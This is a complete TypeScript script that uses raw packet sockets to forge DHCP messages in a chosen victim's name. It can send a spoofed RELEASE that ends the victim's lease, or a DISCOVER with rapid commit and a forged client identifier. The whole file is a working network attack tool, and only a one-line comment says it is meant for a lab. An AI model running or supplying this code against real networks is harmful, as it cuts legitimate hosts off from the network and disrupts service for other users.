// DHCP in another's name: `dhcp-forge.ts INTERFACE SOURCE-MAC CHADDR discover|release [CIADDR SERVER]`. Only for the lab.
import { dlopen, ptr } from "bun:ffi";
import { readFileSync } from "node:fs";

const AF_PACKET = 17;
const SOCK_RAW = 3;
const BROADCAST = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff];
const HEADERS = 14 + 20 + 8;
const BOOTP = 240;
const FOREIGN_CLIENT_ID = [61, 7, 0, ...Buffer.from("forged")];

const [device = "", source = "", victim = "", kind = "discover", ciaddr = "0.0.0.0", server = "0.0.0.0"] =
  process.argv.slice(2);
const { socket, sendto } = dlopen("libc.so.6", {
  socket: { args: ["i32", "i32", "i32"], returns: "i32" },
  sendto: { args: ["i32", "ptr", "u64", "i32", "ptr", "u32"], returns: "i64" },
}).symbols;

const descriptor = socket(AF_PACKET, SOCK_RAW, 0);
if (descriptor < 0) throw new Error("no packet socket");
const link = new DataView(new ArrayBuffer(20));
link.setUint16(0, AF_PACKET, true);
link.setInt32(4, Number(readFileSync(`/sys/class/net/${device}/ifindex`, "utf8")), true);
const frame = forged();
if (Number(sendto(descriptor, ptr(frame), frame.length, 0, ptr(link.buffer), 20)) !== frame.length) {
  throw new Error("not sent");
}
console.log(`sent a ${kind} in the name of ${victim}`);

/** The message (RFC 2131 section 2) as a whole Ethernet frame. */
function forged(): Uint8Array {
  // With rapid commit (RFC 4039) one packet is the whole of a DHCP exchange; a release ends the victim's own lease.
  const options =
    kind === "release"
      ? [53, 1, 7, 54, 4, ...ipv4(server), 61, 7, 1, ...macAddress(victim), 255]
      : [53, 1, 1, 80, 0, ...FOREIGN_CLIENT_ID, 255];
  const message = new DataView(new ArrayBuffer(HEADERS + BOOTP + options.length));
  const bytes = new Uint8Array(message.buffer);
  bytes.set([...BROADCAST, ...macAddress(source), 0x08, 0x00]);
  const ip = 14;
  bytes.set([0x45, 0], ip);
  message.setUint16(ip + 2, bytes.length - ip);
  bytes.set([64, 17], ip + 8);
  bytes.set([...ipv4("0.0.0.0"), ...ipv4("255.255.255.255")], ip + 12);
  message.setUint16(ip + 10, checksum(bytes.subarray(ip, ip + 20)));
  const udp = ip + 20;
  message.setUint16(udp, 68);
  message.setUint16(udp + 2, 67);
  message.setUint16(udp + 4, bytes.length - udp);
  const bootp = udp + 8;
  bytes.set([1, 1, 6, 0], bootp);
  message.setUint32(bootp + 4, 0x0f0e0d0c);
  bytes.set(ipv4(ciaddr), bootp + 12);
  bytes.set(macAddress(victim), bootp + 28);
  bytes.set([0x63, 0x82, 0x53, 0x63, ...options], bootp + 236);
  return bytes;
}

function ipv4(text: string): number[] {
  return text.split(".").map(Number);
}

function macAddress(text: string): number[] {
  return text.split(":").map((byte) => Number.parseInt(byte, 16));
}

function checksum(bytes: Uint8Array): number {
  let sum = 0;
  for (let index = 0; index < bytes.length; index += 2)
    sum += ((bytes[index] ?? 0) << 8) | (bytes[index + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return ~sum & 0xffff;
}
